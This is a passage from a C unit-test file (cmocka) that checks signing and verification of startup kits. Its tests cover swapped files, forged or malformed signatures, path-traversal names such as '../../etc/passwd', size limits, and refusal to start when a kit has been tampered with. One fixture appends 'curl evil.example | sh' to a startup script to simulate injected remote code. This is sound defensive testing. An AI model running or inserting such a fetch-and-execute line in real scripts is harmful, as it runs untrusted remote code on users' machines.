	signed_kit(dir, sizeof(dir), "swap-files");
	swap_files(dir, "startup/start.sh", "startup/client.crt");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	assert_int_equal(p.n, 2);
	assert_true(has(&p, CFL_KIT_CHANGED, "startup/start.sh"));
	assert_true(has(&p, CFL_KIT_CHANGED, "startup/client.crt"));
	/* ...and their digests swapped in the manifest too: the signature no longer fits. */
	m = manifest_of(dir);
	listed = json_object_get(m, "files");
	a = json_incref(json_object_get(listed, "startup/start.sh"));
	b = json_incref(json_object_get(listed, "startup/client.crt"));
	json_object_set_new(listed, "startup/start.sh", b);
	json_object_set_new(listed, "startup/client.crt", a);
	manifest_save(dir, m);
	json_decref(m);
	expect_bad_signature(dir);

	/* A file of another kit signed by the same CA, with its digest. */
	signed_kit(dir, sizeof(dir), "swap-kit-a");
	signed_kit(other, sizeof(other), "swap-kit-b");
	append(other, "startup/start.sh", "curl evil.example | sh\n");
	assert_int_equal(cfl_kit_sign(other, ca_key, &e), 0);
	assert_int_equal(verify(other, &p, &e), 0);
	path_join(path, sizeof(path), other, "startup/start.sh");
	path_join(src_dst, sizeof(src_dst), dir, "startup/start.sh");
	assert_int_equal(cfl__fs_copy_file(path, src_dst, 1u << 20, 0755, &e), 0);
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	assert_int_equal(p.n, 1);
	assert_true(has(&p, CFL_KIT_CHANGED, "startup/start.sh"));
	m = manifest_of(dir);
	mo = manifest_of(other);
	json_object_set(json_object_get(m, "files"), "startup/start.sh",
	                json_object_get(json_object_get(mo, "files"), "startup/start.sh"));
	manifest_save(dir, m);
	json_decref(m);
	json_decref(mo);
	expect_bad_signature(dir);

	/* A file dropped from both the kit and the manifest. */
	signed_kit(dir, sizeof(dir), "swap-drop");
	assert_int_equal(unlink(path_join(path, sizeof(path), dir, "startup/start.sh")), 0);
	m = manifest_of(dir);
	json_object_del(json_object_get(m, "files"), "startup/start.sh");
	manifest_save(dir, m);
	json_decref(m);
	expect_bad_signature(dir);
}

static void test_forged_signatures(void **state)
{
	static const char *const bad_names[] = {
	        "../../etc/passwd",     "local/site.conf",        "local/sub/x.default",
	        "startup/..",           "startup/signature.json", "startup/a b",
	        "startup/a\\nb",        "fed_client.json",        "startup/",
	        "other/fed_client.json"};
	char dir[PATH_MAX], path[PATH_MAX], want[PATH_MAX * 3], listed[512];
	const char *digest = "0000000000000000000000000000000000000000000000000000000000000000";
	struct problems p;
	struct cfl_err e = {0};
	int fd;

	(void)state;
	/* Signed with another project's CA key. */
	signed_kit(dir, sizeof(dir), "sig-other-ca");
	assert_int_equal(cfl_kit_sign(dir, other_ca_key, &e), 0);
	expect_bad_signature(dir);
	/* A signature that is not base64. */
	signed_kit(dir, sizeof(dir), "sig-garbage");
	manifest_write(dir, "{}", "!!!");
	expect_bad_signature(dir);

	/* Names that point outside the kit, at a file of the site's, or that the canonical text
	 * could not hold. */
	path_join(path, sizeof(path), dir, "startup/signature.json");
	for (size_t i = 0; i < sizeof(bad_names) / sizeof(bad_names[0]); i++) {
		char shown[64];

		snprintf(listed, sizeof(listed), "{\"%s\": \"%s\"}", bad_names[i], digest);
		manifest_write(dir, listed, "AAAA");
		assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
		snprintf(shown, sizeof(shown), "%s", bad_names[i]);
		if (strcmp(bad_names[i], "startup/a\\nb") == 0)
			snprintf(shown, sizeof(shown), "startup/a\nb");
		snprintf(want, sizeof(want), "signature file names a bad path '%s'", shown);
		assert_string_equal(e.msg, want);
	}
	/* A digest that is not SHA-256 hex. */
	manifest_write(dir, "{\"startup/start.sh\": \"xyz\"}", "AAAA");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	assert_string_equal(e.msg, "signature file has no SHA-256 digest for 'startup/start.sh'");
	manifest_write(dir, "{\"startup/start.sh\": 5}", "AAAA");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	assert_string_equal(e.msg, "signature file has no SHA-256 digest for 'startup/start.sh'");

	/* Not a manifest: another shape, or NVFlare's one signature per file. */
	write_text(path, "[]");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	snprintf(want, sizeof(want), "'%s' is not a valid signature file: not a JSON object", path);
	assert_string_equal(e.msg, want);
	write_text(path, "{\"start.sh\": \"AAAA\", \"client.crt\": \"AAAA\"}");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	snprintf(want, sizeof(want),
	         "'%s' is not a valid signature file: not a 'cfl-kit-manifest/1' manifest (a kit "
	         "signed by an older cfl: provision it again)",
	         path);
	assert_string_equal(e.msg, want);
	write_text(path, "{\"format\": \"cfl-kit-manifest/1\", \"signature\": \"AAAA\"}");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	snprintf(want, sizeof(want), "'%s' is not a valid signature file: no 'files' object", path);
	assert_string_equal(e.msg, want);
	write_text(path, "{\"format\": \"cfl-kit-manifest/1\", \"files\": {}}");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	snprintf(want, sizeof(want), "'%s' is not a valid signature file: no 'signature'", path);
	assert_string_equal(e.msg, want);
	write_text(path, "{\"format\": ");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	snprintf(want, sizeof(want), "'%s' is not a valid signature file: ", path);
	assert_memory_equal(e.msg, want, strlen(want));
	assert_int_equal(unlink(path), 0);
	assert_int_equal(verify(dir, &p, &e), CFL_ENOENT);
	snprintf(want, sizeof(want), "cannot read '%s': No such file or directory", path);
	assert_string_equal(e.msg, want);

	/* A signed file grown past 16 MiB is reported, not read. */
	signed_kit(dir, sizeof(dir), "sig-huge");
	path_join(path, sizeof(path), dir, "startup/start.sh");
	fd = open(path, O_WRONLY);
	assert_true(fd >= 0);
	assert_int_equal(ftruncate(fd, (off_t)CFL_KIT_MAX_FILE_BYTES + 1), 0);
	close(fd);
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	assert_int_equal(p.n, 1);
	assert_true(has(&p, CFL_KIT_CHANGED, "startup/start.sh"));
	/* ...and such a kit cannot be signed. */
	assert_int_equal(cfl_kit_sign(dir, ca_key, &e), CFL_ETOOBIG);
	snprintf(want, sizeof(want), "cannot read '%s': larger than 16777216 bytes", path);
	assert_string_equal(e.msg, want);
}

static void test_kit_shapes(void **state)
{
	char dir[PATH_MAX], path[PATH_MAX], want[PATH_MAX * 3], name[32];
	struct problems p;
	struct cfl_err e = {0};

	(void)state;
	/* Not a kit. */
	path_join(dir, sizeof(dir), tmp_dir, "no-kit");
	assert_int_equal(cfl__fs_mkdirs(dir, 0700, &e), 0);
	assert_int_equal(verify(dir, &p, &e), CFL_ENOENT);
	snprintf(want, sizeof(want), "cannot open '%s/startup': not a startup kit", dir);
	assert_string_equal(e.msg, want);
	assert_int_equal(cfl_kit_sign(dir, ca_key, &e), CFL_ENOENT);
	assert_string_equal(e.msg, want);

	/* Without its root CA the kit cannot be checked. */
	signed_kit(dir, sizeof(dir), "sig-no-ca");
	assert_int_equal(unlink(path_join(path, sizeof(path), dir, "startup/rootCA.pem")), 0);
	assert_int_equal(verify(dir, &p, &e), CFL_ENOENT);
	snprintf(want, sizeof(want), "cannot check kit '%s': cannot read '%s'", dir, path);
	assert_memory_equal(e.msg, want, strlen(want));

	/* At most 256 files. */
	signed_kit(dir, sizeof(dir), "sig-many");
	for (int i = 0; i < CFL_KIT_MAX_FILES; i++) {
		snprintf(name, sizeof(name), "startup/f%03d", i);
		append(dir, name, "x");
	}
	assert_int_equal(cfl_kit_sign(dir, ca_key, &e), CFL_ETOOBIG);
	snprintf(want, sizeof(want), "too many or too long names in '%s/startup'", dir);
	assert_string_equal(e.msg, want);
	assert_int_equal(verify(dir, &p, &e), CFL_ETOOBIG);
}

/* The check at start-up fails closed: nothing in a kit switches it off. Only the program may
 * let an unsigned kit run (the simulator's --unsigned-kit), and a signed kit is checked even
 * then. */
static void test_verify_at_startup(void **state)
{
	char dir[PATH_MAX], path[PATH_MAX], want[PATH_MAX * 3];
	struct cfl_kitcfg c;
	struct cfl_err e = {0};
	json_t *root;
	char *text;

	(void)state;
	log_capture();
	signed_kit(dir, sizeof(dir), "start-signed");
	assert_int_equal(cfl_kitcfg_load(dir, CLIENT, &c, &e), 0);
	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_SIGNED, &e), 0);
	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_UNSIGNED_OK, &e), 0);

	/* Turning secure_train off in a signed kit is a change like any other... */
	root = json_loads(templates[CLIENT], 0, NULL);
	set_path(root, "secure_train", json_false());
	text = json_dumps(root, 0);
	json_decref(root);
	path_join(path, sizeof(path), dir, "startup/fed_client.json");
	write_text(path, text);
	free(text);
	assert_int_equal(cfl_kitcfg_load(dir, CLIENT, &c, &e), 0);
	assert_int_equal(c.secure_train, 0);
	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_SIGNED, &e), CFL_EVERIFY);
	snprintf(want, sizeof(want),
	         "refusing to start: kit '%s' has 1 changed, missing or added file: "
	         "'startup/fed_client.json' changed",
	         c.kit_dir);
	assert_string_equal(e.msg, want);
	assert_true(logged("kit file 'startup/fed_client.json' is changed", NULL));
	/* ...also for a program that accepts unsigned kits: this one is signed. */
	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_UNSIGNED_OK, &e), CFL_EVERIFY);

	/* signature.json deleted as well (secure_train still off): refused all the same. */
	assert_int_equal(unlink(path_join(path, sizeof(path), dir, "startup/signature.json")), 0);
	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_SIGNED, &e), CFL_EVERIFY);
	snprintf(want, sizeof(want),
	         "refusing to start: kit '%s' is not signed (no startup/signature.json)",
	         c.kit_dir);
	assert_string_equal(e.msg, want);
	assert_true(logged("kit file 'startup/signature.json' is missing", NULL));
	/* Only the program's own switch lets it run, with a warning. */
	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_UNSIGNED_OK, &e), 0);
	assert_true(logged("is not signed: not checked (--unsigned-kit)", NULL));
	cfl_log_set_sink(NULL, NULL);
}

/* --- main ------------------------------------------------------------------------------------ */

static int load_ca_key(const char *prod_dir, struct cfl_pki_key **out)
{
	char path[PATH_MAX];
	struct cfl_err e = {0};
	char *slash;

	/* <workspace>/<project>/prod_NN -> <workspace>/<project>/state/rootCA.key */
	snprintf(path, sizeof(path), "%s", prod_dir);
	slash = strrchr(path, '/');
	if (slash == NULL)
		return -1;
	snprintf(slash, sizeof(path) - (size_t)(slash - path), "/state/rootCA.key");
	if (cfl_pki_key_load(path, out, &e) != 0) {
		fprintf(stderr, "%s\n", e.msg);
		return -1;
	}
	return 0;
}

static int setup(void **state)
{
	(void)state;
	cfl_log_set_level(CFL_LOG_ERROR);
	if (tmp_make("test-kit") != 0 || provision("kitp", kitp_yml, prod, sizeof(prod)) != 0 ||
	    provision("otherp", otherp_yml, other_prod, sizeof(other_prod)) != 0 ||
	    load_ca_key(prod, &ca_key) != 0 || load_ca_key(other_prod, &other_ca_key) != 0)
		return -1;
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	cfl_pki_key_free(ca_key);
	cfl_pki_key_free(other_ca_key);
	tmp_remove();
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(test_provisioned_kits),
	        cmocka_unit_test(test_unreadable_files),
	        cmocka_unit_test(test_server_fields),
	        cmocka_unit_test(test_client_fields),
	        cmocka_unit_test(test_admin_fields),
	        cmocka_unit_test(test_connection_security),
	        cmocka_unit_test(test_sign_and_verify),
	        cmocka_unit_test(test_swapped_files),
	        cmocka_unit_test(test_forged_signatures),
	        cmocka_unit_test(test_kit_shapes),
	        cmocka_unit_test(test_verify_at_startup),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
